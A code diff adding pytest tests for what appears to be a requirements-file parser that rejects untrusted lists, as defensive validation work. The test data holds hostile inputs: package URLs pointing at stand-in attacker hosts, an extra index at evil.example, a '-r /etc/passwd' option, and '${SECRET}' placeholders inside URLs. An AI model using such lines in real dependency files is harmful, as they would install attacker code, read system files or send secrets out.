@@ -122,3 +122,38 @@ def test_what_pip_says_becomes_one_line(said: str, kind: type, words: str):
     with pytest.raises(kind, match=words) as refusal:
         raise diagnose(said.splitlines())
     assert "\n" not in str(refusal.value)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "evil @ http://127.0.0.1:9/evil-1.0.tar.gz",
+        "evil @ file:///tmp/evil",
+        "evil @ git+https://example.org/evil",
+        "evil>=1",
+        "evil",
+        "evil==1.*",
+        "evil===http://x",
+    ],
+)
+def test_a_list_from_a_stranger_holds_exact_pins_alone(line):
+    with pytest.raises(BadInput, match=r"stranger chose.*--trust"):
+        parse(f"torch==2.0\n{line}\n", trust=False)
+
+
+def test_a_strangers_indexes_are_not_asked_and_nothing_is_built():
+    wanted = parse("--extra-index-url https://evil.example/simple\ntorch==2.13.0+cpu\n", trust=False)
+    assert (wanted.pins, wanted.indexes, wanted.built) == (("torch==2.13.0+cpu",), (), False)
+
+
+@pytest.mark.parametrize("line", ["--pre -r /etc/passwd", "--pre -e /tmp/evil", "--find-links a b", "-r x.txt", "-c x"])
+@pytest.mark.parametrize("trust", [True, False])
+def test_options_that_are_no_index_are_refused_whoever_wrote_them(line, trust):
+    with pytest.raises(BadInput, match="requirements: "):
+        parse(f"torch==2.0\n{line}\n", trust=trust)
+
+
+@pytest.mark.parametrize("line", ["evil @ http://x/${SECRET}/y", "--index-url https://x/${SECRET}", "a==${SECRET}"])
+def test_variables_of_this_machine_are_not_put_into_a_list(line):
+    with pytest.raises(BadInput, match="names a variable of this machine"):
+        parse(line)
